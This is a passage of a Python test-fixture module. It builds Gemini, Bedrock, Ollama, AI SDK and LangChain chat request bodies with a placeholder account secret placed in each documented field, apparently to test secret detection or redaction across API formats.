        where='functionResponse.response {"status": "... SECRET ..."}',
        role="tool",
    )
    b.add(
        "function-response-context",
        lambda s: gemini(_gemini_call({"context": f"Customer record for account {s}."})),
        where='functionResponse.response {"context": "... SECRET ..."}',
        role="tool",
    )
    b.add(
        "function-response-output",
        lambda s: gemini(_gemini_call({"output": f"account {s}: two charges"})),
        where='functionResponse.response {"output": ...} (the documented key)',
        role="tool",
    )
    b.add(
        "function-response-deep",
        lambda s: gemini(_gemini_call(nested({"note": f"reference {s}"}))),
        where="functionResponse.response nested 12 deep",
        role="tool",
    )
    b.add(
        "function-response-number",
        lambda s: gemini(_gemini_call({"accountNumber": int(s), "active": True})),
        where="functionResponse.response: the account number as a JSON number",
        role="tool",
        account=True,
    )
    b.add(
        "function-role",
        lambda s: gemini(_gemini_call({"result": f"account {s}"}, role="function")),
        where='functionResponse in a content of role "function" (older documented form)',
        role="tool",
    )
    b.add(
        "code-execution-result",
        lambda s: gemini(
            [
                {"role": "user", "parts": [{"text": "Compute my balance."}]},
                {
                    "role": "model",
                    "parts": [
                        {"executableCode": {"language": "PYTHON", "code": "print(balance())"}},
                        {
                            "codeExecutionResult": {
                                "outcome": "OUTCOME_OK",
                                "output": f"balance for {s}: 12.40\n",
                            }
                        },
                    ],
                },
                {"role": "user", "parts": [{"text": "Thanks."}]},
            ]
        ),
        where="codeExecutionResult.output (the code's output)",
        role="tool",
    )


def _gemini_sdk(secret: str, body: Json) -> list[Json]:
    """What a google-genai caller passes as `contents`: snake_case parts, a Blob's data as
    raw bytes (python-genai `types.Part(inline_data=types.Blob(...))` as a dict)."""
    return [
        {
            "role": "user",
            "parts": [
                {"text": "Summarise this file."},
                {"inline_data": {"mime_type": "text/plain", "data": note_file(secret).encode()}},
            ],
        }
    ]


def _gemini_sdk_response(secret: str, body: Json) -> list[Json]:
    """A google-genai caller's contents: a function response part, role "tool" as the SDK's
    automatic function calling writes it, snake_case."""
    return [
        {"role": "user", "parts": [{"text": "Why was I charged twice?"}]},
        {"role": "model", "parts": [{"function_call": {"name": "lookup_account", "args": {}}}]},
        {
            "role": "tool",
            "parts": [
                {
                    "function_response": {
                        "name": "lookup_account",
                        "response": {"status": "ok", "data": {"id": secret}},
                    }
                }
            ],
        },
    ]


def gemini_shape(mint: Mint) -> Builder:
    """Gemini: systemInstruction, text, function calls and responses, inline data."""
    b = Builder(GEMINI, mint, whole_body)
    hello = [{"role": "user", "parts": [{"text": "Why was I charged twice?"}]}]
    b.add(
        "system-instruction",
        lambda s: gemini(hello, f"You are Northwind's billing bot. Escalation code {s}."),
        where="systemInstruction.parts[].text",
        role="system",
    )
    b.add(
        "user-text",
        lambda s: gemini([{"role": "user", "parts": [{"text": f"My account is {s}."}]}]),
        where="user contents parts[].text",
        role="user",
    )
    b.add(
        "model-text",
        lambda s: gemini(
            [
                *hello,
                {"role": "model", "parts": [{"text": f"Account {s} has a hold."}]},
                {"role": "user", "parts": [{"text": "And the refund?"}]},
            ]
        ),
        where="model contents parts[].text (the model's earlier reply)",
        role="model",
    )
    b.add(
        "function-call-args",
        lambda s: gemini(
            [
                *hello,
                {
                    "role": "model",
                    "parts": [{"functionCall": {"name": "lookup", "args": {"accountNumber": s}}}],
                },
                {
                    "role": "user",
                    "parts": [{"functionResponse": {"name": "lookup", "response": {"ok": True}}}],
                },
            ]
        ),
        where="model functionCall.args",
        role="model",
    )
    b.add(
        "thought",
        lambda s: gemini(
            [
                *hello,
                {
                    "role": "model",
                    "parts": [
                        {"text": f"Account {s} shows two holds.", "thought": True},
                        {"text": "It is a pending hold."},
                    ],
                },
                {"role": "user", "parts": [{"text": "And the refund?"}]},
            ]
        ),
        where="model part with thought: true (a thought summary)",
        role="model",
    )
    b.add(
        "inline-data-text",
        lambda s: gemini(
            [
                {
                    "role": "user",
                    "parts": [
                        {"text": "Summarise this file."},
                        {"inlineData": {"mimeType": "text/plain", "data": b64(note_file(s))}},
                    ],
                }
            ]
        ),
        where="user inlineData, base64 of a text/plain file",
        role="user",
    )
    b.add(
        "inline-data-json",
        lambda s: gemini(
            [
                {
                    "role": "user",
                    "parts": [
                        {"text": "What tier is this customer?"},
                        {"inlineData": {"mimeType": "application/json", "data": b64(note_json(s))}},
                    ],
                }
            ]
        ),
        where="user inlineData, base64 of an application/json file",
        role="user",
    )
    b.add(
        "after-300k",
        lambda s: gemini(
            [
                {"role": "user", "parts": [{"text": f"My account is {s}; list my shipments."}]},
                *_gemini_call({"output": long_document()})[1:],
            ]
        ),
        where="user text; a 300,000-character functionResponse after it",
        role="user",
    )
    b.add(
        "sdk-inline-bytes",
        lambda s: gemini(
            [
                {
                    "role": "user",
                    "parts": [
                        {"text": "Summarise this file."},
                        {"inlineData": {"mimeType": "text/plain", "data": b64(note_file(s))}},
                    ],
                }
            ]
        ),
        where="google-genai contents: inline_data.data as raw bytes of a text file",
        role="user",
        messages=_gemini_sdk,
    )
    b.add(
        "sdk-function-response",
        lambda s: gemini(_gemini_call({"status": "ok", "data": {"id": s}})),
        where="google-genai contents: function_response.response data.id (snake_case)",
        role="tool",
        messages=_gemini_sdk_response,
    )
    _gemini_responses(b)
    return b


# --- Bedrock Converse -----------------------------------------------------------------

BEDROCK = Shape(
    "bedrock-converse",
    "/model/anthropic.claude-3-haiku-20240307-v1:0/converse",
    "botocore data/bedrock-runtime/2023-09-30/service-2.json (ConverseRequest: system "
    "SystemContentBlocks, messages; ContentBlock: text, document, toolUse, toolResult, "
    "reasoningContent; ToolResultBlock: content [json | text | document | searchResult], "
    "status; DocumentBlock: format, name, source {bytes | text | content}, context); "
    "https://docs.aws.amazon.com/bedrock/latest/APIReference/API_runtime_Converse.html",
)


def converse(messages: list[Json], system: str | None = None) -> Json:
    """A Bedrock Converse request body (JSON: a blob is base64 text)."""
    body: Json = {"messages": messages, "inferenceConfig": {"maxTokens": 512}}
    if system is not None:
        body["system"] = [{"text": system}]
    return body


def _bedrock_round(use_input: Any, content: list[Json], status: str = "success") -> list[Json]:
    """A user turn, the model's toolUse, and the toolResult sent back."""
    return [
        {"role": "user", "content": [{"text": "Why was I charged twice?"}]},
        {
            "role": "assistant",
            "content": [
                {
                    "toolUse": {
                        "toolUseId": "tooluse_kZJMlvQmRJ6eAyJE5GIl7Q",
                        "name": "lookup_account",
                        "input": use_input,
                    }
                }
            ],
        },
        {
            "role": "user",
            "content": [
                {
                    "toolResult": {
                        "toolUseId": "tooluse_kZJMlvQmRJ6eAyJE5GIl7Q",
                        "content": content,
                        "status": status,
                    }
                }
            ],
        },
    ]


def _bedrock_document(source: Json, **extra: Any) -> Json:
    return {"document": {"format": "txt", "name": "customer-notes", "source": source, **extra}}


def _boto3_bytes(secret: str, body: Json) -> Json:
    """What a boto3 caller passes to `converse(...)`: the document's bytes as raw `bytes`
    (boto3 base64-encodes a blob on the wire)."""
    document = _bedrock_document({"bytes": note_file(secret).encode()})
    return {
        "messages": [
            {"role": "user", "content": [{"text": "Summarise the notes."}, document]},
        ]
    }


def _bedrock_tools(b: Builder) -> None:
    """Bedrock toolUse and toolResult blocks."""
    b.add(
        "tool-use-input",
        lambda s: converse(_bedrock_round({"accountNumber": s}, [{"text": "active"}])),
        where="assistant toolUse.input",
        role="model",
    )
    b.add(
        "tool-result-json",
        lambda s: converse(_bedrock_round({}, [{"json": {"status": "ok", "data": {"id": s}}}])),
        where='toolResult content [{"json": {"status", "data": {"id": SECRET}}}]',
        role="tool",
    )
    b.add(
        "tool-result-text",
        lambda s: converse(_bedrock_round({}, [{"text": f"account {s}: two charges"}])),
        where='toolResult content [{"text": ...}]',
        role="tool",
    )
    b.add(
        "tool-result-error",
        lambda s: converse(_bedrock_round({}, [{"text": f"account {s} is locked"}], "error")),
        where='toolResult with status "error", text content',
        role="tool",
    )
    b.add(
        "tool-result-deep",
        lambda s: converse(_bedrock_round({}, [{"json": nested({"note": f"reference {s}"})}])),
        where="toolResult json content nested 12 deep",
        role="tool",
    )
    b.add(
        "tool-result-number",
        lambda s: converse(_bedrock_round({}, [{"json": {"accountNumber": int(s)}}])),
        where="toolResult json: the account number as a JSON number",
        role="tool",
        account=True,
    )
    b.add(
        "tool-result-search-result",
        lambda s: converse(
            _bedrock_round(
                {},
                [
                    {
                        "searchResult": {
                            "source": "https://kb.northwind.example/a/1",
                            "title": "Refund policy",
                            "content": [{"text": f"Refunds for account {s} go to the card."}],
                        }
                    }
                ],
            )
        ),
        where="toolResult content, a searchResult's text",
        role="tool",
    )
    b.add(
        "tool-result-document",
        lambda s: converse(_bedrock_round({}, [_bedrock_document({"bytes": b64(note_file(s))})])),
        where="toolResult content, a document whose bytes are a text file (base64)",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: converse(
            _bedrock_round({"report": "shipments"}, [{"text": long_document()}]),
            f"You are Northwind's shipping bot. Customer account {s}.",
        ),
        where="system; a 300,000-character toolResult after it",
        role="system",
    )


def bedrock(mint: Mint) -> Builder:
    """Bedrock Converse: system list, text, tools, documents, reasoning."""
    b = Builder(BEDROCK, mint, whole_body)
    hello = [{"role": "user", "content": [{"text": "Why was I charged twice?"}]}]
    b.add(
        "system",
        lambda s: converse(hello, f"You are Northwind's billing bot. Escalation code {s}."),
        where="system[].text",
        role="system",
    )
    b.add(
        "user-text",
        lambda s: converse([{"role": "user", "content": [{"text": f"My account is {s}."}]}]),
        where="user content[].text",
        role="user",
    )
    b.add(
        "assistant-text",
        lambda s: converse(
            [
                *hello,
                {"role": "assistant", "content": [{"text": f"Account {s} has a hold."}]},
                {"role": "user", "content": [{"text": "And the refund?"}]},
            ]
        ),
        where="assistant content[].text (the model's earlier reply)",
        role="model",
    )
    b.add(
        "reasoning",
        lambda s: converse(
            [
                *hello,
                {
                    "role": "assistant",
                    "content": [
                        {
                            "reasoningContent": {
                                "reasoningText": {
                                    "text": f"Account {s} shows two holds.",
                                    "signature": "ErcBCkgIAhABGAIiQMuHrCRbPN8ZBMmlO8VqTzuL3N0Q",
                                }
                            }
                        },
                        {"text": "It is a pending hold."},
                    ],
                },
                {"role": "user", "content": [{"text": "And the refund?"}]},
            ]
        ),
        where="assistant reasoningContent.reasoningText.text",
        role="model",
    )
    b.add(
        "document-bytes",
        lambda s: converse(
            [
                {
                    "role": "user",
                    "content": [
                        {"text": "Summarise the notes."},
                        _bedrock_document({"bytes": b64(note_file(s))}),
                    ],
                }
            ]
        ),
        where="user document source.bytes: a text file (base64 on the wire, bytes in boto3)",
        role="user",
        messages=_boto3_bytes,
    )
    b.add(
        "document-bytes-json",
        lambda s: converse(
            [
                {
                    "role": "user",
                    "content": [
                        {"text": "Summarise the notes."},
                        _bedrock_document({"bytes": b64(note_file(s))}),
                    ],
                }
            ]
        ),
        where="user document source.bytes: base64 of a text file, as the JSON body has it",
        role="user",
    )
    b.add(
        "document-text-source",
        lambda s: converse(
            [
                {
                    "role": "user",
                    "content": [
                        {"text": "Summarise the notes."},
                        _bedrock_document({"text": note_file(s)}),
                    ],
                }
            ]
        ),
        where="user document source.text",
        role="user",
    )
    b.add(
        "document-content-source",
        lambda s: converse(
            [
                {
                    "role": "user",
                    "content": [
                        {"text": "Summarise the notes."},
                        _bedrock_document({"content": [{"text": note_file(s)}]}),
                    ],
                }
            ]
        ),
        where="user document source.content[].text",
        role="user",
    )
    b.add(
        "document-context",
        lambda s: converse(
            [
                {
                    "role": "user",
                    "content": [
                        {"text": "Summarise the notes."},
                        _bedrock_document(
                            {"text": "Refund approved."},
                            context=f"Uploaded by the owner of account {s}.",
                        ),
                    ],
                }
            ]
        ),
        where="user document context",
        role="user",
    )
    _bedrock_tools(b)
    return b


# --- Ollama ---------------------------------------------------------------------------

OLLAMA_CHAT = Shape(
    "ollama-chat",
    "/api/chat",
    "ollama docs/api.md (Generate a chat completion: messages[] role, content, thinking, "
    "images, tool_calls [{function: {name, arguments: object}}], tool_name)",
    stream="ollama-chat",
)
OLLAMA_GENERATE = Shape(
    "ollama-generate",
    "/api/generate",
    "ollama docs/api.md (Generate a completion: prompt, suffix, system, images, context)",
    stream="ollama-generate",
)
# A 1x1 PNG, base64: what Ollama's `images` hold.
PNG_B64 = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)


def ollama_chat_body(*messages: Json) -> Json:
    """An Ollama /api/chat request body."""
    return {"model": "llama3.1", "messages": list(messages), "stream": False}


def _ollama_round(arguments: Json, result: str) -> list[Json]:
    return [
        {"role": "user", "content": "Why was I charged twice?"},
        {
            "role": "assistant",
            "content": "",
            "tool_calls": [{"function": {"name": "lookup_account", "arguments": arguments}}],
        },
        {"role": "tool", "tool_name": "lookup_account", "content": result},
    ]


def ollama_chat(mint: Mint) -> Builder:
    """Ollama /api/chat: roles, images, tool calls, thinking."""
    b = Builder(OLLAMA_CHAT, mint, messages_list)
    ask = {"role": "user", "content": "Why was I charged twice?"}
    b.add(
        "system",
        lambda s: ollama_chat_body({"role": "system", "content": f"Escalation code {s}."}, ask),
        where="system message content",
        role="system",
    )
    b.add(
        "user",
        lambda s: ollama_chat_body({"role": "user", "content": f"My account is {s}."}),
        where="user message content",
        role="user",
    )
    b.add(
        "user-images",
        lambda s: ollama_chat_body(
            {"role": "user", "content": f"Receipt for account {s}, read it.", "images": [PNG_B64]}
        ),
        where="user message content beside images",
        role="user",
    )
    b.add(
        "tool-call-arguments",
        lambda s: ollama_chat_body(*_ollama_round({"account_number": s}, "active")),
        where="assistant tool_calls[].function.arguments (an object)",
        role="model",
    )
    b.add(
        "tool-call-arguments-deep",
        lambda s: ollama_chat_body(*_ollama_round(nested({"query": f"account {s}"}), "active")),
        where="assistant tool_calls[].function.arguments nested 12 deep",
        role="model",
    )
    b.add(
        "tool-json-string",
        lambda s: ollama_chat_body(
            *_ollama_round({}, json.dumps({"status": "ok", "data": {"id": s}}))
        ),
        where='tool message content: JSON text {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-text",
        lambda s: ollama_chat_body(*_ollama_round({}, f"account {s}: two charges")),
        where="tool message content (text), with tool_name",
        role="tool",
    )
    b.add(
        "thinking",
        lambda s: ollama_chat_body(
            ask,
            {
                "role": "assistant",
                "content": "It is a pending hold.",
                "thinking": f"Account {s} shows two holds.",
            },
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant thinking",
        role="model",
    )
    b.add(
        "assistant-text",
        lambda s: ollama_chat_body(
            ask,
            {"role": "assistant", "content": f"Account {s} has a hold."},
            {"role": "user", "content": "And the refund?"},
        ),
        where="assistant content (the model's earlier reply)",
        role="model",
    )
    b.add(
        "after-300k",
        lambda s: ollama_chat_body(
            {"role": "user", "content": f"My account is {s}; list my shipments."},
            *_ollama_round({"report": "shipments"}, long_document())[1:],
        ),
        where="user message; a 300,000-character tool message after it",
        role="user",
    )
    return b


def ollama_generate(mint: Mint) -> Builder:
    """Ollama /api/generate: prompt, system, suffix, images."""
    b = Builder(OLLAMA_GENERATE, mint, whole_body)
    base = {"model": "llama3.1", "stream": False}
    b.add(
        "prompt",
        lambda s: {**base, "prompt": f"My account is {s}. Why was I charged twice?"},
        where="prompt",
        role="user",
    )
    b.add(
        "system",
        lambda s: {**base, "system": f"Escalation code {s}.", "prompt": "Why the double charge?"},
        where="system",
        role="system",
    )
    b.add(
        "prompt-images",
        lambda s: {**base, "prompt": f"Receipt for account {s}, read it.", "images": [PNG_B64]},
        where="prompt beside images",
        role="user",
    )
    b.add(
        "suffix",
        lambda s: {
            **base,
            "model": "codellama:code",
            "prompt": "def account_key():\n    return ",
            "suffix": f"\n\nKEY = '{s}'\n",
        },
        where="suffix (fill-in-the-middle text after the cursor)",
        role="user",
    )
    b.add(
        "after-300k",
        lambda s: {
            **base,
            "system": f"You are Northwind's shipping bot. Customer account {s}.",
            "prompt": "Summarise this log:\n" + long_document(),
        },
        where="system; a 300,000-character prompt (a pasted log) after it",
        role="system",
    )
    return b


# --- Vercel AI SDK --------------------------------------------------------------------

AI_SDK_UI = Shape(
    "ai-sdk-ui",
    "/api/chat",
    "vercel/ai packages/ai/src/ui/ui-messages.ts (UIMessage v5 parts: text, reasoning, "
    "tool-NAME {toolCallId, state, input, output, errorText}, dynamic-tool, source-url, "
    "source-document, file {mediaType, filename, url}); "
    "packages/ai/src/ui/http-chat-transport.ts (POST body {id, messages, trigger, messageId})",
    stream="ai-sdk",
)
AI_SDK_MODEL = Shape(
    "ai-sdk-model",
    "/api/chat",
    "vercel/ai packages/provider-utils/src/types/content-part.ts (TextPart, ImagePart, "
    "FilePart {data, mediaType}, ReasoningPart, ToolCallPart {input}, ToolResultPart "
    "{output: ToolResultOutput text | json | error-text | error-json | content}), "
    "model-message.ts (system, user, assistant, tool)",
)


def ui_body(*messages: Json) -> Json:
    """An AI SDK `useChat` request body (DefaultChatTransport)."""
    return {
        "id": "chat_h3Xk2m",
        "messages": list(messages),
        "trigger": "submit-message",
        "messageId": None,
    }


def ui(role: str, *parts: Json) -> Json:
    """A UIMessage."""
    return {"id": f"msg_{role[:3]}_{len(parts)}", "role": role, "parts": list(parts)}


def tool_ui_part(**fields: Any) -> Json:
    """A `tool-lookupAccount` part, output available unless `fields` say otherwise."""
    part: Json = {
        "type": "tool-lookupAccount",
        "toolCallId": "call_Ui82Lk",
        "state": "output-available",
        "input": {},
        "output": {"active": True},
    }
    part.update(fields)
    return part


def _ui_tools(b: Builder) -> None:
    """UIMessage tool parts: typed and dynamic, inputs, outputs, errors."""
    ask = ui("user", text_part("Why was I charged twice?"))

    def turn(part: Json) -> Json:
        return ui_body(ask, ui("assistant", part, text_part("Done.")), ui("user", text_part("Ok")))

    b.add(
        "tool-input",
        lambda s: turn(tool_ui_part(input={"accountNumber": s})),
        where="tool-NAME part input (the model's arguments)",
        role="model",
    )
    b.add(
        "tool-output-json",
        lambda s: turn(tool_ui_part(output={"status": "ok", "data": {"id": s}})),
        where='tool-NAME part output {"status", "data": {"id": SECRET}}',
        role="tool",
    )
    b.add(
        "tool-output-deep",
        lambda s: turn(tool_ui_part(output=nested({"note": f"reference {s}"}))),
        where="tool-NAME part output nested 12 deep",
        role="tool",
    )
    b.add(
        "tool-output-string",
        lambda s: turn(tool_ui_part(output=f"account {s}: two charges")),
        where="tool-NAME part output (a string)",
        role="tool",
    )
    b.add(
        "tool-output-error",
        lambda s: turn(
            tool_ui_part(state="output-error", output=None, errorText=f"account {s} is locked")
        ),
        where="tool-NAME part errorText (state output-error)",
        role="tool",
    )
    b.add(
        "dynamic-tool-output",
        lambda s: turn(
            {
                "type": "dynamic-tool",
                "toolName": "crm.get_customer",
                "toolCallId": "call_Ui83Lk",
                "state": "output-available",
                "input": {},
                "output": {"context": f"Customer record for account {s}."},
            }
        ),
        where='dynamic-tool part output {"context": ...}',
        role="tool",
    )
    b.add(
        "dynamic-tool-input",
        lambda s: turn(
            {
                "type": "dynamic-tool",
                "toolName": "crm.get_customer",
                "toolCallId": "call_Ui84Lk",
                "state": "output-available",
                "input": {"account": s},
                "output": {"found": True},
            }
        ),
        where="dynamic-tool part input (the model's arguments)",
        role="model",
    )
    b.add(
        "source-url",
        lambda s: turn(
            {
                "type": "source-url",
                "sourceId": "src_1",
                "url": f"https://kb.northwind.example/articles/{s}",
                "title": "Refund policy",
            }
        ),
        where="source-url part url (a search tool's source)",
        role="tool",
    )
    b.add(
        "source-document",
        lambda s: turn(
            {
                "type": "source-document",
                "sourceId": "src_2",
                "mediaType": "text/plain",
                "title": f"Notes on account {s}",
                "filename": "notes.txt",
            }
        ),
        where="source-document part title (a retrieval tool's source)",
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: ui_body(
            ui("user", text_part(f"My account is {s}; list my shipments.")),
            ui("assistant", tool_ui_part(output=long_document())),
            ui("user", text_part("Which came late?")),
        ),
        where="user text part; a 300,000-character tool output after it",
        role="user",
    )


def ai_sdk_ui(mint: Mint) -> Builder:
    """AI SDK UIMessage (v5) request bodies."""
    b = Builder(AI_SDK_UI, mint, messages_list)
    ask = ui("user", text_part("Why was I charged twice?"))
    b.add(
        "user-text",
        lambda s: ui_body(ui("user", text_part(f"My account is {s}."))),
        where="user text part",
        role="user",
    )
    b.add(
        "system-text",
        lambda s: ui_body(ui("system", text_part(f"Escalation code {s}.")), ask),
        where="system UIMessage text part",
        role="system",
    )
    b.add(
        "assistant-text",
        lambda s: ui_body(
            ask,
            ui("assistant", text_part(f"Account {s} has a hold.")),
            ui("user", text_part("And the refund?")),
        ),
        where="assistant text part (the model's earlier reply)",
        role="model",
    )
    b.add(
        "reasoning",
        lambda s: ui_body(
            ask,
            ui(
                "assistant",
                {"type": "reasoning", "text": f"Account {s} shows two holds.", "state": "done"},
                text_part("It is a pending hold."),
            ),
            ui("user", text_part("And the refund?")),
        ),
        where="assistant reasoning part",
        role="model",
    )
    b.add(
        "file-text",
        lambda s: ui_body(
            ui(
                "user",
                {
                    "type": "file",
                    "mediaType": "text/plain",
                    "filename": "notes.txt",
                    "url": f"data:text/plain;base64,{b64(note_file(s))}",
                },
                text_part("Summarise the notes."),
            )
        ),
        where="user file part url: a data URL, base64 of a text/plain file",
        role="user",
    )
    b.add(
        "file-json",
        lambda s: ui_body(
            ui(
                "user",
                {
                    "type": "file",
                    "mediaType": "application/json",
                    "filename": "customer.json",
                    "url": f"data:application/json;base64,{b64(note_json(s))}",
                },
                text_part("What tier is this customer?"),
            )
        ),
        where="user file part url: a data URL, base64 of an application/json file",
        role="user",
    )
    _ui_tools(b)
    return b


def model_body(*messages: Json, system: str | None = None) -> Json:
    """A body carrying AI SDK ModelMessages (what `streamText({system, messages})` takes)."""
    body: Json = {"messages": list(messages)}
    if system is not None:
        body["system"] = system
    return body


def tool_result(output: Json) -> Json:
    """A tool ModelMessage with one `tool-result` part."""
    part = {
        "type": "tool-result",
        "toolCallId": "call_Mm41Qx",
        "toolName": "lookupAccount",
        "output": output,
    }
    return {"role": "tool", "content": [part]}


def _model_round(output: Json, tool_input: Any = None) -> list[Json]:
    """A user turn, the model's tool call, and the tool's result."""
    call = {
        "type": "tool-call",
        "toolCallId": "call_Mm41Qx",
        "toolName": "lookupAccount",
        "input": tool_input if tool_input is not None else {},
    }
    return [
        {"role": "user", "content": [text_part("Why was I charged twice?")]},
        {"role": "assistant", "content": [call]},
        tool_result(output),
    ]


def _model_tools(b: Builder) -> None:
    """ModelMessage tool calls and every documented kind of tool output."""
    b.add(
        "tool-call-input",
        lambda s: model_body(*_model_round({"type": "text", "value": "ok"}, {"account": s})),
        where="assistant tool-call part input",
        role="model",
    )
    b.add(
        "tool-result-json",
        lambda s: model_body(
            *_model_round({"type": "json", "value": {"status": "ok", "data": {"id": s}}})
        ),
        where='tool-result output {"type": "json", "value": {"status", "data": {"id"}}}',
        role="tool",
    )
    b.add(
        "tool-result-text",
        lambda s: model_body(*_model_round({"type": "text", "value": f"account {s}: active"})),
        where='tool-result output {"type": "text", "value": ...}',
        role="tool",
    )
    b.add(
        "tool-result-content",
        lambda s: model_body(
            *_model_round(
                {"type": "content", "value": [{"type": "text", "text": f"account {s}: active"}]}
            )
        ),
        where='tool-result output {"type": "content", "value": [{"type": "text"}]}',
        role="tool",
    )
    b.add(
        "tool-result-content-media",
        lambda s: model_body(
            *_model_round(
                {
                    "type": "content",
                    "value": [
                        {"type": "media", "data": b64(note_file(s)), "mediaType": "text/plain"}
                    ],
                }
            )
        ),
        where="tool-result content output, a media part: base64 of a text file",
        role="tool",
    )
    b.add(
        "tool-result-deep",
        lambda s: model_body(
            *_model_round({"type": "json", "value": nested({"note": f"reference {s}"})})
        ),
        where="tool-result json output nested 12 deep",
        role="tool",
    )
    b.add(
        "tool-result-error-text",
        lambda s: model_body(
            *_model_round({"type": "error-text", "value": f"account {s} is locked"})
        ),
        where='tool-result output {"type": "error-text"}',
        role="tool",
    )
    b.add(
        "tool-result-error-json",
        lambda s: model_body(
            *_model_round({"type": "error-json", "value": {"status": f"account {s} locked"}})
        ),
        where='tool-result output {"type": "error-json", "value": {"status": ...}}',
        role="tool",
    )
    b.add(
        "after-300k",
        lambda s: model_body(
            {"role": "user", "content": [text_part(f"My account is {s}; list my shipments.")]},
            *_model_round({"type": "text", "value": long_document()})[1:],
        ),
        where="user text part; a 300,000-character tool result after it",
        role="user",
    )


def ai_sdk_model(mint: Mint) -> Builder:
    """AI SDK ModelMessages (v5)."""
    b = Builder(AI_SDK_MODEL, mint, whole_body)
    ask = {"role": "user", "content": [text_part("Why was I charged twice?")]}
    b.add(
        "system-message",
        lambda s: model_body({"role": "system", "content": f"Escalation code {s}."}, ask),
        where="system ModelMessage content",
        role="system",
    )
    b.add(
        "system-field",
        lambda s: model_body(ask, system=f"Escalation code {s}."),
        where="the call's system field",
        role="system",
    )
    b.add(
        "user-text",
        lambda s: model_body({"role": "user", "content": [text_part(f"My account is {s}.")]}),
        where="user text part",
        role="user",
    )
    b.add(
        "user-file-data",
        lambda s: model_body(
            {
                "role": "user",
                "content": [
                    text_part("Summarise the notes."),
                    {
                        "type": "file",
                        "data": b64(note_file(s)),
                        "mediaType": "text/plain",
                        "filename": "notes.txt",
                    },
                ],
            }
        ),
        where="user file part data: base64 of a text/plain file",
        role="user",
    )
    b.add(
        "user-image-url",
        lambda s: model_body(
            {
                "role": "user",
                "content": [
                    text_part("What does this receipt say?"),
                    {"type": "image", "image": f"https://files.northwind.example/r.png?ref={s}"},
                ],
            }
        ),
        where="user image part image: a URL (its query)",
        role="user",
    )
    b.add(
        "assistant-reasoning",
        lambda s: model_body(
            ask,
            {
                "role": "assistant",
                "content": [
                    {"type": "reasoning", "text": f"Account {s} shows two holds."},
                    text_part("It is a pending hold."),
                ],
            },
            {"role": "user", "content": [text_part("And the refund?")]},
        ),
        where="assistant reasoning part",
        role="model",
    )
    b.add(
        "assistant-text",
        lambda s: model_body(
            ask,
            {"role": "assistant", "content": [text_part(f"Account {s} has a hold.")]},
            {"role": "user", "content": [text_part("And the refund?")]},
        ),
        where="assistant text part (the model's earlier reply)",
        role="model",
    )
    _model_tools(b)
    return b


# --- LangChain ------------------------------------------------------------------------

_LC_SOURCE = (
    "langchain-core langchain_core/messages/base.py, human.py, ai.py (tool_calls "
    "[{name, args, id, type: tool_call}]), tool.py (tool_call_id, artifact, status), "
    "system.py; content_blocks.py (v0.3 standard file block {type: file, source_type: "
    "base64, mime_type, data})"
)
LANGCHAIN_DICT = Shape(
    "langchain-dict",
    "/invoke",
    _LC_SOURCE + "; langchain_core/messages/utils.py messages_to_dict ({type, data: "
    "message.model_dump()}); the body is LangServe's /invoke envelope {input, config, kwargs}",
)
LANGCHAIN_DUMPD = Shape(
    "langchain-dumpd",
    "/invoke",
    _LC_SOURCE + "; langchain_core/load/dump.py dumpd and load/serializable.py to_json "
    "({lc: 1, type: constructor, id: [langchain, schema, messages, CLASS], kwargs})",
)
LANGCHAIN_OBJECTS = Shape(
    "langchain-objects",
    "/invoke",
    _LC_SOURCE + "; BaseMessage objects emulated by pydantic models of the same fields "
    "(langchain-core is not installed here; test_real_langchain_objects uses the real ones "
    "when it is)",
)

_LC_TYPES = {"system": "SystemMessage", "human": "HumanMessage", "ai": "AIMessage"}
_LC_TYPES["tool"] = "ToolMessage"


def lc_fields(kind: str, content: Any, **extra: Any) -> Json:
    """A LangChain message's fields, as `message.model_dump()` gives them."""
    fields: Json = {
        "content": content,
        "additional_kwargs": {},
        "response_metadata": {},
        "type": kind,
        "name": None,
        "id": None,
    }
    if kind in ("human", "ai"):
        fields["example"] = False
    if kind == "ai":
        fields.update(tool_calls=[], invalid_tool_calls=[], usage_metadata=None)
    if kind == "tool":
        fields.update(tool_call_id="call_Lc71", artifact=None, status="success")
    fields.update(extra)
    return fields


def lc_dict(kind: str, content: Any, **extra: Any) -> Json:
    """A message as `messages_to_dict` gives it."""
    return {"type": kind, "data": lc_fields(kind, content, **extra)}


def lc_dumpd(kind: str, content: Any, *, cls: str | None = None, **extra: Any) -> Json:
    """A message as `dumpd` gives it (only the fields set, `type` among them)."""
    kwargs: Json = {"content": content, "type": kind, **extra}
    if kind == "ai":
        kwargs.setdefault("tool_calls", [])
        kwargs.setdefault("invalid_tool_calls", [])
    path = ["langchain", "schema", "messages", cls or _LC_TYPES[kind]]
    return {"lc": 1, "type": "constructor", "id": path, "kwargs": kwargs}


def lc_call(args: Any) -> Json:
    """An AIMessage `tool_calls` entry."""
    return {"name": "lookup_account", "args": args, "id": "call_Lc71", "type": "tool_call"}


def langserve(messages: list[Any]) -> Json:
    """LangServe's /invoke request body around a chain's `messages` input."""
    return {"input": {"messages": messages}, "config": {}, "kwargs": {}}


def invoke_messages(body: Json) -> Any:
    """The conversation of a LangServe body: its messages input."""
    return body["input"]["messages"]


LcMake = Callable[..., Json]


def _langchain_cases(b: Builder, make: LcMake) -> None:
    """The same LangChain conversations, each message written by `make` (`lc_dict` or
    `lc_dumpd`)."""
    ask = make("human", "Why was I charged twice?")
    file_block = {"type": "file", "source_type": "base64", "mime_type": "text/plain"}

    def rounds(args: Any, result: Any) -> list[Json]:
        return [ask, make("ai", "", tool_calls=[lc_call(args)]), make("tool", result)]

    b.add(
        "system",
        lambda s: langserve([make("system", f"Escalation code {s}."), ask]),
        where="SystemMessage content",
        role="system",
    )
    b.add(
        "human",
        lambda s: langserve([make("human", f"My account is {s}.")]),
        where="HumanMessage content (string)",
        role="user",
    )
    b.add(
        "human-blocks",
        lambda s: langserve([make("human", [text_part(f"Order key {s}, where is it?")])]),
        where="HumanMessage content, a text block",
        role="user",
    )
    b.add(
        "human-file-base64",
        lambda s: langserve(
            [
                make(
                    "human",
                    [text_part("Summarise the notes."), {**file_block, "data": b64(note_file(s))}],
                )
            ]
        ),
